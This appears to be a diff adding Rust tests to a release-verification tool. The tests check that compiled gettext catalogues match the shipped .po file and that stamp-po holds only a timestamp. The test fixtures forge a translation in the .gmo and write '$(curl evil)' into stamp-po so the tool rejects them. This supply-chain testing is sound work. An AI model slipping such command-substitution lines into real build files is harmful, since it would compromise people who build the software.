@@ -246,3 +246,91 @@ fn a_changed_translation_fails_naming_the_msgid() {
     r.assert_report(1, "fail");
     assert!(reason(&r, "po/de.po").contains("Content-Type"), "{r}");
 }
+
+/// `msgfmt -o po/de.gmo po/de.po` (the release's, msgmerge-refreshed file), as make dist runs
+/// it; `None` where gettext is not installed.
+fn msgfmt(d: &Path) -> Option<()> {
+    let ok = std::process::Command::new("msgfmt")
+        .arg("-o")
+        .arg(d.join("po/de.gmo"))
+        .arg(d.join("po/de.po"))
+        .status()
+        .ok()?
+        .success();
+    assert!(ok, "msgfmt failed");
+    fs::write(d.join("po/stamp-po"), "timestamp\n").unwrap();
+    Some(())
+}
+
+/// A compiled catalogue is judged by its messages: what msgfmt makes of the release's `.po`
+/// passes (content-checked, out of the trust surface, as is gettext's stamp-po); a catalogue
+/// whose translation was changed after compiling, one compiled from another `.po`, or a
+/// stamp-po holding anything else is rejected, naming the msgid.
+#[test]
+fn compiled_catalogues_are_the_po_s_translations() {
+    if std::process::Command::new("msgfmt")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        eprintln!("msgfmt not installed: skipped");
+        return;
+    }
+    let f = fixture();
+    let t = release(&f, |d| {
+        fs::write(d.join("po/de.po"), PO_MERGED).unwrap();
+        msgfmt(d).unwrap();
+    });
+    let r = autotools(&f, &t);
+    r.assert_report(0, "pass");
+    let gmo = r.finding("po/de.gmo", "extra");
+    assert_eq!(gmo["judgement"], "allowed", "{r}");
+    assert_eq!(gmo["vouched_by"], "content-check", "{r}");
+    assert_eq!(
+        r.finding("po/stamp-po", "extra")["vouched_by"],
+        "reproduced",
+        "{r}"
+    );
+    let paths = r.json["trust_surface"]["paths"].as_array().unwrap();
+    assert!(
+        !paths.iter().any(|p| p == "po/de.gmo" || p == "po/stamp-po"),
+        "{r}"
+    );
+
+    // The translation of "done" changed inside the compiled catalogue.
+    let t = release(&f, |d| {
+        msgfmt(d).unwrap();
+        let g = d.join("po/de.gmo");
+        let mo = fs::read(&g).unwrap();
+        let at = mo.windows(6).position(|w| w == b"fertig").unwrap();
+        let mut forged = mo.clone();
+        forged[at..at + 6].copy_from_slice(b"FERTIG");
+        fs::write(&g, forged).unwrap();
+    });
+    let r = autotools(&f, &t);
+    r.assert_report(1, "fail");
+    let gmo = r.finding("po/de.gmo", "extra");
+    assert_eq!(gmo["judgement"], "unexpected", "{r}");
+    assert!(gmo["reason"].as_str().unwrap().contains("done"), "{r}");
+
+    // Compiled from a .po with a translation the release's de.po does not have.
+    let t = release(&f, |d| {
+        fs::write(d.join("po/de.po"), PO.replace("fertig", "erledigt")).unwrap();
+        msgfmt(d).unwrap();
+        fs::write(d.join("po/de.po"), PO).unwrap();
+    });
+    autotools(&f, &t).assert_report(1, "fail");
+
+    // stamp-po holding a script.
+    let t = release(&f, |d| {
+        msgfmt(d).unwrap();
+        fs::write(d.join("po/stamp-po"), "timestamp\n$(curl evil)\n").unwrap();
+    });
+    let r = autotools(&f, &t);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("po/stamp-po", "extra")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
